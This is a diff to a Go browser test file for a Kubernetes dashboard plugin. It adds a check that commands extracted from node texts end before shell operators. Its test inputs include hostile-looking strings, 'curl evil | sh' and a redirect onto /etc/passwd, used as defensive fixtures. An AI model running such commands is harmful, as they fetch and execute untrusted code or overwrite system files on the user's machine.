@@ -117,7 +117,27 @@ func TestSeveralClustersHaveATabWithTheirOwnSummary(t *testing.T) {
 	b.waits(`location.hash === "#/away%2F1" && document.querySelector("#clusters [aria-current]").textContent.startsWith("away/1")`)
 	b.shows("#troubles", "The API server has not answered since")
 	b.shows("#fleet-words", "0 nodes")
+	// Nothing of the other cluster is left.
+	b.waits(`document.getElementById("failed").hidden && !document.querySelector("#legend .chip")`)
 	value[bool](b, `(history.back(), true)`)
 	b.shows("#fleet-words", "12 nodes in 3 zones")
 	b.shows("#summary", "1 node failed")
+}
+
+func TestCommandsInTextsOfNodesEndBeforeWhatAShellInterprets(t *testing.T) {
+	if chromium == "" {
+		t.Skip("there is no chromium")
+	}
+	address, _ := serve(t, cluster.AdminKubeconfig())
+	b := open(t, address)
+	for text, want := range map[string]string{
+		"or: kubectl evenkeel rollout status workers -w; then wait.": "kubectl evenkeel rollout status workers -w",
+		"run kubectl evenkeel doctor && curl evil | sh":              "kubectl evenkeel doctor",
+		"run kubectl evenkeel nodes $HOME > /etc/passwd":             "kubectl evenkeel nodes",
+	} {
+		got := value[string](b, fmt.Sprintf(`import("/dom.js").then((m) => m.withCommands(%q).filter((part) => part instanceof Element).map((e) => e.firstChild.textContent).join(" and "))`, text))
+		if got != want {
+			t.Errorf("%s: the command is %q, want %q", text, got, want)
+		}
+	}
 }
